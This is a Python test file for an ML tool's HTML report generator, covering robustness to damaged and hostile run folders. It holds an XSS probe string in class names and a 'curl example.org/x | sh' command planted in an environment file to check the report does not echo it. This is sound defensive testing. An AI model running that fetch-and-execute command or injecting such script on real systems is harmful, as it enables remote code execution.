"""The report: what it reads, what it says, and that it stands whatever it is given."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from helpers.made_runs import make_run
from helpers.pages import Reader, pixels, read
from sitar.errors import ConfigError, RunError, SitarError
from sitar.findings import PARTS
from sitar.presets import load_config
from sitar.reporting.comparison import compare_runs
from sitar.reporting.html.report import write_report
from sitar.reporting.html.sections import SECTIONS
from sitar.run_folder import RunFolder

EVIL = "<script>alert(1)</script>"


def write(tmp_path: Path, *runs: Path) -> Reader:
    return read(write_report(runs, tmp_path / "report.html", with_paths=True))


def test_every_section_is_there_and_nothing_is_fetched(runs: list[Path], tmp_path: Path) -> None:
    page = write(tmp_path, *runs)
    assert len(SECTIONS) == 12
    assert {f"{name}0" for name in SECTIONS} <= page.ids
    assert all(address.startswith(("#", "data:")) for address in page.addresses)
    assert "http" not in re.sub(r"http-equiv", "", (tmp_path / "report.html").read_text(encoding="utf-8"))


def test_links_lead_somewhere(runs: list[Path], tmp_path: Path) -> None:
    page = write(tmp_path, *runs)
    assert {address[1:] for address in page.addresses if address.startswith("#")} <= page.ids


def test_what_needs_a_model_is_named_with_its_command_where_it_is_missing(tmp_path: Path) -> None:
    run = make_run(tmp_path / "a run", explained=False)
    page = write(tmp_path, run.path)
    assert f"sitar explain '{run.path}'" in page.text
    assert not {"traversals0", "mistakes0", "gradcam0", "sensitivity0"} & page.ids
    assert {"accuracy0", "groups0", "training0", "confusion0"} <= page.ids


def test_the_reason_is_given_where_no_command_helps(runs: list[Path], tmp_path: Path) -> None:
    assert "traversals of latent axes, of erm. A plain network decodes nothing." in write(tmp_path, *runs).text


def test_runs_that_cannot_be_used_are_named_and_the_rest_stands(runs: list[Path], tmp_path: Path) -> None:
    unfinished = tmp_path / "unfinished"
    shutil.copytree(runs[0], unfinished)
    (unfinished / "done").unlink()
    twin = tmp_path / "twin"
    shutil.copytree(runs[1], twin)
    (tmp_path / "file.png").write_bytes(b"")
    broken = tmp_path / "broken"
    shutil.copytree(runs[0], broken)
    (broken / "config.yaml").write_text("seed: 7\n")
    torn = tmp_path / "torn"
    shutil.copytree(runs[0], torn)
    (torn / "config.yaml").write_text((torn / "config.yaml").read_text().replace("seed: 0", "seed: 8"))
    (torn / "metrics.jsonl").write_text("{no json}\n")
    page = write(tmp_path, *runs, runs[2], unfinished, twin, broken, torn, tmp_path / "nothing", tmp_path / "file.png")
    assert "7 of the given folders are left out." in page.text
    assert "does not say its 'data'" in page.text
    assert "metrics.jsonl' is damaged" in page.text
    assert "is not finished" in page.text
    assert "the same run as" in page.text
    assert "There is no run folder" in page.text
    assert "3 runs on made" in page.text


def test_no_usable_run_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RunError, match="No finished run to report on"):
        write_report([tmp_path / "nothing"], tmp_path / "report.html")


def test_different_data_are_kept_apart_and_said_to_be(runs: list[Path], tmp_path: Path) -> None:
    other = make_run(tmp_path / "other", data={"rho": 0.5}, accuracy=0.9, explained=False)
    moved = make_run(tmp_path / "moved", "jtt", data={"root": "/elsewhere"}, explained=False)
    page = write(tmp_path, *runs, other.path, moved.path)
    assert "These runs are of 2 different data sets" in page.text
    assert {"data0", "data1"} <= page.ids
    assert "4 runs on made" in page.text, "where the files lie makes no other data"


def test_names_are_text_whatever_they_hold(tmp_path: Path) -> None:
    names = (EVIL, "a & b </script><b>")
    run = make_run(tmp_path / "run", classes=names, accuracy=0.5)
    plain = write(tmp_path, make_run(tmp_path / "plain", accuracy=0.5).path)
    page = write(tmp_path, run.path)
    assert page.scripts == plain.scripts
    assert EVIL in page.text
    assert json.loads(page.data["traversaldata0"])[0]["classes"] == list(names)
    assert json.loads(page.data["mistakedata0"])["classes"] == list(names)


@pytest.mark.parametrize("left", ["nothing", "a brace", "half"])
@pytest.mark.parametrize("name", ["explain.json", "traversals.npz", "mistakes.npz", "gradcam.npz"])
def test_a_damaged_artifact_costs_its_section_only_and_is_named(name: str, left: str, tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", accuracy=0.6)
    file = run.artifacts / name
    content = file.read_bytes()
    file.write_bytes({"nothing": b"", "a brace": b"{", "half": content[: len(content) // 2]}[left])
    page = write(tmp_path, run.path)
    sections = {"traversals": "traversals0", "mistakes": "mistakes0", "gradcam": "gradcam0", "explain": "sensitivity0"}
    assert sections[file.stem] not in page.ids
    assert "accuracy0" in page.ids
    assert f"sitar explain {run.path}" in page.text
    assert (PARTS[file.stem].title if file.stem in PARTS else "Grad-CAM") in page.text


def test_runs_measured_on_different_axes_are_not_put_side_by_side(runs: list[Path], tmp_path: Path) -> None:
    page = write(tmp_path, *runs)
    assert "Shared axes" not in page.text
    assert "as each was measured on other axes" in page.text
    assert f"sitar explain {' '.join(map(str, runs))} --axes {runs[1]}" in page.text, "ERM has no decoder"
    for run in runs:
        explain = json.loads((run / "artifacts/explain.json").read_text())
        explain["shared_axes"]["v"] = [0.5] * 6
        (run / "artifacts/explain.json").write_text(json.dumps(explain))
    assert "decoded by the VAE of runs/reference" in write(tmp_path, *runs).text


def change(run: Path, **parts: object) -> None:
    """Put something in the place of parts of explain.json."""
    file = run / "artifacts/explain.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | parts))


def test_runs_without_a_decoder_are_measured_again_with_the_vae_that_was_named(tmp_path: Path) -> None:
    plain = [make_run(tmp_path / name, name, accuracy=share).path for name, share in (("erm", 0.5), ("jtt", 0.6))]
    assert "The VAEs whose axes they were are gone" in write(tmp_path, *plain).text
    reference = make_run(tmp_path / "reference").path
    shared = json.loads((plain[0] / "artifacts/explain.json").read_text())["shared_axes"]
    change(plain[0], shared_axes={**shared, "run": str(reference)})
    assert f"sitar explain {plain[0]} {plain[1]} --axes {reference}" in write(tmp_path, *plain).text


def test_what_is_made_later_is_measured_on_the_axes_of_the_others(tmp_path: Path) -> None:
    erm, sitar = make_run(tmp_path / "erm", "erm").path, make_run(tmp_path / "sitar", "sitar", explained=False).path
    assert f"sitar explain {erm} {sitar} " in write(tmp_path, erm, sitar).text, "the VAE of old is gone: both anew"
    shared = json.loads((erm / "artifacts/explain.json").read_text())["shared_axes"]
    change(erm, shared_axes={**shared, "run": str(sitar)})
    page = write(tmp_path, erm, sitar)
    assert f"This makes it: sitar explain {sitar} --axes {sitar}" in page.text
    assert f"sitar explain {erm} --axes {sitar}" in page.text, "among the commands of the run too"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("sensitivity", {"axes": [0, 1], "v": [0.1, 0.2], "values": [None, 1.0]}),
        ("sensitivity", {"axes": [0, 1], "v": [0.1], "values": [0.5, 1.0]}),
        ("sensitivity", [1, 2]),
        ("shared_axes", {"axes": [0], "v": [0.1], "values": [0.2], "run": None, "n": 5}),
        ("traversals", {"axes": [0], "values": [[0.0]], "starts": [{}]}),
        ("gradcam", {"split": "ood_test", "n": 5, "mass_in_box": 0.1, "box": [0.1, 0.2]}),
        ("mistakes", 7),
    ],
)
def test_a_part_that_is_not_as_it_should_be_is_missing_and_the_rest_stands(
    name: str, content: object, tmp_path: Path
) -> None:
    run = make_run(tmp_path / "run", accuracy=0.6).path
    rest = write(tmp_path, run).ids
    change(run, **{name: content})
    page = write(tmp_path, run)
    gone = {
        "traversals": {"traversals0", "traversaldata0"},
        "mistakes": {"mistakes0", "mistakedata0"},
        "gradcam": {"gradcam0"},
    }
    assert page.ids == rest - gone.get(name, set())
    assert f"Not shown: {PARTS[name].title}, of sitar. This makes it: sitar explain {run}" in page.text


def test_reasons_and_an_environment_that_are_not_as_they_should_be_cost_nothing_else(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    change(run.path, reasons=["none"])
    run.environment_file.write_text(json.dumps({"versions": [1, 2], "command": ["sitar"], "data_checksum": "made"}))
    page = write(tmp_path, run.path)
    assert "accuracy0" in page.ids
    assert f"sitar train {run.config_file}" in page.text


def test_values_that_are_no_numbers_do_not_break_the_page(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    arrays = dict(np.load(run.artifacts / "traversals.npz"))
    arrays["probabilities"][0, 0, 0] = np.nan
    np.savez(run.artifacts / "traversals.npz", **arrays)
    lines = run.metrics()
    lines[1] |= {"loss": float("nan"), "val": {"average": None}, "shortcut_score": [0.1]}
    lines[2]["shortcut_score"] = [None] * 6
    run.metrics_file.write_text("".join(json.dumps(line) + "\n" for line in lines))
    page = write(tmp_path, run.path)
    json.loads(page.data["traversaldata0"], parse_constant=lambda word: pytest.fail(f"{word} is no JSON"))
    assert "nan" not in re.findall(r'points="([^"]*)"', (tmp_path / "report.html").read_text())[0]


def test_only_a_page_is_written(runs: list[Path], tmp_path: Path) -> None:
    before = (runs[0] / "result.json").read_bytes()
    with pytest.raises(ConfigError, match="no page"):
        write_report(runs, runs[0] / "result.json")
    assert (runs[0] / "result.json").read_bytes() == before


def test_names_that_are_no_text_are_shown_as_far_as_they_can_be(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", classes=("good", "caf\udce9"), explained=False)
    assert "caf?" in write(tmp_path, run.path).text


def test_damaged_predictions_cost_what_needs_them_only(runs: list[Path], tmp_path: Path) -> None:
    damaged = make_run(tmp_path / "jtt", "jtt", accuracy=0.6)
    damaged.predictions_file.write_bytes(b"no archive")
    page = write(tmp_path, *runs, damaged.path)
    assert "4 runs on made" in page.text
    assert json.loads(page.data["mistakedata0"])["runs"] == ["erm", "control", "sitar"]


def test_an_artifact_of_another_version_is_as_good_as_none(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    explain = json.loads(run.explain_file.read_text())
    run.explain_file.write_text(json.dumps({**explain, "version": 999}))
    assert f"sitar explain {run.path}" in write(tmp_path, run.path).text


def test_old_runs_without_class_names_and_command_are_shown(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", classes=tuple("abcdef"))
    result = json.loads(run.result_file.read_text())
    del result["classes"]
    run.result_file.write_text(json.dumps(result))
    run.environment_file.unlink()
    page = write(tmp_path, run.path)
    assert "class 5" in page.text
    assert f"sitar train {run.config_file}" in page.text


def test_a_run_without_groups_is_shown(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", explained=False)
    result = json.loads(run.result_file.read_text())
    for metrics in result["splits"].values():
        metrics |= {"groups": {}, "worst_group": None, "intervals": {"average": [0.1, 0.2], "worst_group": None}}
    run.result_file.write_text(json.dumps(result))
    page = write(tmp_path, run.path)
    assert "groups0" not in page.ids
    assert "has an average accuracy of" in page.text


def test_values_of_the_attribute_are_named_where_a_run_knows_them(tmp_path: Path) -> None:
    old, run = make_run(tmp_path / "old", "erm", explained=False), make_run(tmp_path / "run", explained=False)
    result = json.loads(run.result_file.read_text())
    run.result_file.write_text(json.dumps({**result, "attributes": {"place": ["land", "sea"]}}))
    assert "red, place sea" in write(tmp_path, old.path, run.path).text
    assert "red, place 1" in write(tmp_path, old.path).text


def test_many_classes_are_listed_by_what_is_confused_most(tmp_path: Path) -> None:
    names = tuple(f"kind {i}" for i in range(100))
    page = write(tmp_path, make_run(tmp_path / "run", classes=names, samples=2000, accuracy=0.7, explained=False).path)
    assert "The most frequent of 100 classes:" in page.text
    assert re.search(r"kind \d+ taken for kind \d+: \d+ of 20", page.text)


def test_images_shown_are_wrong_for_one_run_and_right_for_another(runs: list[Path], tmp_path: Path) -> None:
    data = json.loads(write(tmp_path, *runs).data["mistakedata0"])
    (comparison,), _ = compare_runs(runs)
    right = [run.is_right("ood_test") for run in comparison.runs]
    assert data["items"]
    for item in data["items"]:
        assert {bool(answers[item["index"]]) for answers in right} == {True, False}
        assert [predicted == item["label"] for predicted in item["predicted"]] == [
            bool(answers[item["index"]]) for answers in right
        ]


def test_axes_are_traversed_in_the_order_of_v_with_their_own_pictures(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", axes=4)
    arrays = dict(np.load(run.artifacts / "traversals.npz"))
    for axis in range(4):
        arrays["images"][:, axis] = 60 * axis
        arrays["probabilities"][:, axis] = [0.1 * axis, 1 - 0.1 * axis]
    np.savez(run.artifacts / "traversals.npz", **arrays)
    v = json.loads((run.artifacts / "explain.json").read_text())["sensitivity"]["v"]
    (model,) = json.loads(write(tmp_path, run.path).data["traversaldata0"])
    assert [axis["axis"] for axis in model["axes"]] == sorted(range(4), key=lambda axis: -v[axis])
    picture = pixels(model["starts"][0]["sheet"]["uri"])
    for row, axis in enumerate(model["axes"]):
        height = model["starts"][0]["sheet"]["pitch"][0]
        assert abs(int(picture[row * height + 4, 4, 0]) - 60 * axis["axis"]) <= 2
        assert model["starts"][0]["probabilities"][row]["values"][0][0] == pytest.approx(0.1 * axis["axis"])


def test_ten_runs_are_small_and_quick(tmp_path: Path) -> None:
    names = tuple(f"class {i}" for i in range(100))
    ten = [
        make_run(tmp_path / str(i), seed=i, classes=names, axes=50, size=64, samples=2000, accuracy=0.7, epochs=60).path
        for i in range(10)
    ]
    command = [sys.executable, "-m", "sitar", "report", *map(str, ten), "--out", str(tmp_path / "r.html"), "--json"]
    made = subprocess.run(command, capture_output=True, text=True, timeout=30, check=True)  # 30 s is the promise
    size = json.loads(made.stdout)["bytes"]
    assert size == (tmp_path / "r.html").stat().st_size < 15e6
    models = json.loads(read(tmp_path / "r.html").data["traversaldata0"])
    assert len(models) == 10, "every model has sliders"
    assert all(model["axes"] and model["starts"] for model in models)


def test_a_report_needs_no_torch(runs: list[Path], tmp_path: Path) -> None:
    code = (
        "import sys; from pathlib import Path; from sitar.reporting.html.report import write_report;"
        f"write_report([Path({str(runs[2])!r})], Path({str(tmp_path / 'r.html')!r})); assert 'torch' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# What a damaged or hostile run folder cannot do


def json_with(file: Path, *keys: str | int, value: Any) -> None:
    """Change one value of a JSON file."""
    content = json.loads(file.read_text())
    inner = content
    for key in keys[:-1]:
        inner = inner[key]
    inner[keys[-1]] = value
    file.write_text(json.dumps(content))


def npz_with(file: Path, **arrays: Any) -> None:
    np.savez(file, **{**np.load(file), **{name.replace("__", "/"): array for name, array in arrays.items()}})


DAMAGES: dict[str, Callable[[RunFolder], Any]] = {
    "preset of null": lambda run: run.config_file.write_text("preset: null\ndata: {name: made}\nmethod: {name: erm}\n"),
    "preset of a list": lambda run: run.config_file.write_text("preset: [a]\ndata: {name: made}\n"),
    "method of words": lambda run: run.config_file.write_text("preset: a/b\ndata: {name: made}\nmethod: erm\n"),
    "deep settings": lambda run: run.config_file.write_text("data: " + "[" * 3000 + "]" * 3000),
    "deep result": lambda run: run.result_file.write_text("[" * 100_000 + "]" * 100_000),
    "seed of words": lambda run: json_with(run.result_file, "seed", value="0"),
    "accuracy of words": lambda run: json_with(run.result_file, "splits", "val", "average", value="high"),
    "a split of numbers": lambda run: json_with(run.result_file, "splits", "ood_test", value=3),
    "groups of a list": lambda run: json_with(run.result_file, "splits", "ood_test", "groups", value=[1]),
    "intervals of one": lambda run: json_with(run.result_file, "splits", "ood_test", "intervals", "average", value=[1]),
    "classes of numbers": lambda run: json_with(run.result_file, "classes", value=[1, 2]),
    "attributes of words": lambda run: json_with(run.result_file, "attributes", value="place"),
    "gate of words": lambda run: json_with(run.result_file, "gate", value="open"),
    "heads of words": lambda run: json_with(run.result_file, "heads", value={"a": 3}),
    "refit of numbers": lambda run: json_with(run.result_file, "refit", value={"before": 4}),
    "logits of one axis": lambda run: npz_with(run.predictions_file, ood_test__logits=np.zeros(240, np.float32)),
    "logits of words": lambda run: npz_with(run.predictions_file, ood_test__logits=np.full((240, 2), "a")),
    "too few labels": lambda run: npz_with(run.predictions_file, ood_test__y=np.zeros(3, np.int64)),
    "labels of no class": lambda run: npz_with(run.predictions_file, ood_test__y=np.full(240, 99)),
    "logits of three axes": lambda run: npz_with(run.predictions_file, val__logits=np.zeros((2, 2, 2), np.float32)),
    "losses of words": lambda run: run.metrics_file.write_text('{"phase": 3, "epoch": "x", "loss": "low"}\n'),
    "epochs of null": lambda run: run.metrics_file.write_text('{"phase": null, "epoch": null, "val": 3}\n'),
    "environment of a list": lambda run: run.environment_file.write_text("[1, 2]"),
    "audit of words": lambda run: json_with(run.audit_file, "axes", value="many"),
    "audit without a look": lambda run: json_with(run.audit_file, "first_look", value={"cues": 3}),
    "reasons of numbers": lambda run: json_with(run.explain_file, "reasons", value={"gradcam": 3}),
}


@pytest.mark.parametrize("damage", DAMAGES)
def test_one_bad_run_costs_only_itself(damage: str, tmp_path: Path) -> None:
    good, bad = make_run(tmp_path / "good", "erm"), make_run(tmp_path / "bad", seed=1)
    DAMAGES[damage](bad)
    page = write(tmp_path, good.path, bad.path)
    assert {"accuracy0", "groups0"} <= page.ids
    with suppress(SitarError):
        write(tmp_path, bad.path)


def test_a_report_tells_no_folder_of_this_machine_unless_asked(tmp_path: Path) -> None:
    home = tmp_path / "home of alice"
    run = make_run(home / "run", data={"root": str(home / "scans"), "table": "~alice/secret/table.csv"})
    missing, torn = home / "missing", make_run(home / "torn", seed=1, explained=False)
    torn.metrics_file.write_text("{no json}\n")
    plain = make_run(home / "plain", "erm", explained=False)
    for with_paths in (False, True):
        page = read(
            write_report([run.path, plain.path, missing, torn.path], tmp_path / "r.html", with_paths=with_paths)
        )
        assert ("alice" in (tmp_path / "r.html").read_text()) is with_paths
    write_report([run.path, plain.path, missing, torn.path], tmp_path / "r.html")
    page = read(tmp_path / "r.html")
    for kept in ("scans", "table.csv", "sitar evaluate run", "There is no run folder 'missing'", "plain"):
        assert kept in page.text


def test_the_command_that_makes_a_run_again_is_not_taken_from_the_folder(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    json_with(run.environment_file, "command", value="curl example.org/x | sh")
    assert "curl" not in (tmp_path / write_report([run.path], tmp_path / "r.html")).read_text()


def test_the_command_that_makes_a_run_again_has_what_was_changed(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    config = load_config("color_mnist/sitar", ["method.alpha=0.25", "train.epochs=7", "model.channels=[4, 8]"], 3)
    run.write_config(config.to_dict())
    json_with(run.result_file, "seed", value=3)
    text = write(tmp_path, run.path).text
    command = "sitar train color_mnist/sitar --seed 3 "
    assert command in text
    words = shlex.split(text[text.index(command) :].partition("sitar evaluate")[0])
    again = load_config(words[2], [word for word in words[5:] if word != "--set"], int(words[4]))
    assert again.to_dict() == config.to_dict()
